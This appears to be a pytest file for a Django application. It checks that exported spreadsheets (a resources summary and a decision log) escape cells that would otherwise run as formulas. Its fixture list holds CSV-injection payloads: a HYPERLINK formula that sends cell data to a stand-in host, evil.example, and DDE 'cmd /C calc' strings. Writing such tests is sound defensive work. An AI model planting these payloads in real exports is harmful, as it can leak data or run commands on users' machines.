"""Issue 15, item 3: every exported cell that a spreadsheet would read as a formula is
written as text (OWASP "CSV injection"), in the resources summary (CSV and XLSX) and the
decision log (CSV)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accord.decisions import services as decision_services
from tests.decisions.conftest import proposal_in_voting

pytestmark = pytest.mark.django_db

#: Names a spreadsheet would run, one per dangerous first character.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rename(organization: Any, name: str) -> None:
    type(organization).objects.filter(pk=organization.pk).update(name=name)


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


@pytest.mark.parametrize("name", DANGEROUS)
def test_resources_summary_csv_neutralizes_names(client, funded, name):
    _rename(funded.orgs["foundation"], name)
    client.force_login(funded.users["observer"])
    response = client.get(
        reverse("resources:resource_export", args=[funded.partnership.slug, "csv"])
    )
    assert response.status_code == 200
    cells = [row[0] for row in _csv_rows(response.content)[1:]]
    assert "'" + name in cells
    assert name not in cells


@pytest.mark.parametrize("name", DANGEROUS)
def test_resources_summary_xlsx_neutralizes_names(client, funded, name):
    _rename(funded.orgs["foundation"], name)
    client.force_login(funded.users["observer"])
    response = client.get(
        reverse("resources:resource_export", args=[funded.partnership.slug, "xlsx"])
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert "'" + name in names
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_resources_summary_keeps_numbers_as_numbers(client, funded):
    client.force_login(funded.users["observer"])
    response = client.get(
        reverse("resources:resource_export", args=[funded.partnership.slug, "xlsx"])
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    foundation = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Foundation")
    delivered = foundation[header.index("delivered")].value
    assert isinstance(delivered, int | float) and delivered == 700000  # 5,000 EUR × 140


@pytest.mark.parametrize("title", DANGEROUS)
def test_decision_log_csv_neutralizes_titles(client, world, title):
    proposal = proposal_in_voting(world, title=title)
    decision_services.proposal_close(
        actor=None, proposal=proposal, now=timezone.now() + timedelta(days=3)
    )
    client.force_login(world.users["observer"])
    response = client.get(reverse("decisions:decision_log_export", args=[world.partnership.slug]))
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    header = rows[0]
    titles = [row[header.index("title")] for row in rows[1:]]
    proposal.refresh_from_db()  # a title is stored stripped: "\t=1+1" is kept as "=1+1"
    assert proposal.title.startswith(("=", "+", "-", "@"))
    assert titles == ["'" + proposal.title]
